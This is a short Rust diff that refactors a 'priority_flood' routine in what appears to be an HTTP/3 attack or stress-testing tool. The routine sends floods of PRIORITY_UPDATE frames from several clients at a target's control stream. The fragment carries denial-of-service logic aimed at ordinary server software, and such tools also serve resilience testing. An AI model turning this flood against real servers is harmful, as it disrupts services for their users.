@@ -3,7 +3,7 @@
 use crate::attack::{Plan, Victim};
 use crate::http;
 
-use super::{Crowd, crowd};
+use super::Crowd;
 
 /// The entry of the attack in the list.
 pub(super) const PLAN: Plan = Plan {
@@ -15,8 +15,7 @@ pub(super) const PLAN: Plan = Plan {
 };
 
 fn priority_flood() -> Crowd {
-    Crowd::new(2, |connection, progress, _| {
-        let id = http::uni_stream(http::CONTROL);
+    Crowd::of_clients(2, |connection, progress, _| {
         let mut bytes = Vec::new();
         for _ in 0..FRAMES {
             progress.streams += 1;
@@ -25,10 +24,8 @@ fn priority_flood() -> Crowd {
             payload.extend_from_slice(b"u=1,i");
             bytes.extend(http::frame(http::PRIORITY_UPDATE, &payload));
         }
-        connection.push_bytes(http::stream(id, progress.control, &bytes, false));
-        progress.control += bytes.len() as u64;
+        progress.push_control(connection, &bytes);
     })
-    .with_begin(crowd::preface)
 }
 
 /// Frames in one packet.
